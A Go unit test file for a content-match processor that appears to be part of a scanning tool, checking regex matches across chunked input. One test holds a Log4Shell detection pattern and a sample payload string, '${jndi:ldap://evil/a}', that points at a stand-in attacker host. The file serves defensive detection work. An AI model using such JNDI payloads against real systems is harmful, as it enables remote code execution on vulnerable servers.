package match

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestContentMatchProcessor_MatchesAcrossChunks(t *testing.T) {
	cmp, err := NewContentMatchProcessor(map[string]string{
		"log4shell": `\$\{jndi:`,
	})
	require.NoError(t, err)

	assert.Equal(t, "content_match", cmp.Name())

	// Split the needle across two Consume calls to confirm matching happens
	// on the full accumulated buffer, not chunk-by-chunk.
	cmp.Consume([]byte("some text before ${jn"))
	cmp.Consume([]byte("di:ldap://evil/a} trailing text"))

	v, err := cmp.Finish()
	require.NoError(t, err)
	res := v.(Result)
	assert.Equal(t, []string{"log4shell"}, res.Value())
}

func TestContentMatchProcessor_NoMatch(t *testing.T) {
	cmp, err := NewContentMatchProcessor(map[string]string{"needle": "xyzzy"})
	require.NoError(t, err)

	cmp.Consume([]byte("nothing interesting here"))
	v, err := cmp.Finish()
	require.NoError(t, err)
	assert.Equal(t, []string{}, v.(Result).Value())
}

func TestNewContentMatchProcessor_InvalidRegex(t *testing.T) {
	_, err := NewContentMatchProcessor(map[string]string{"bad": "("})
	assert.Error(t, err)
}
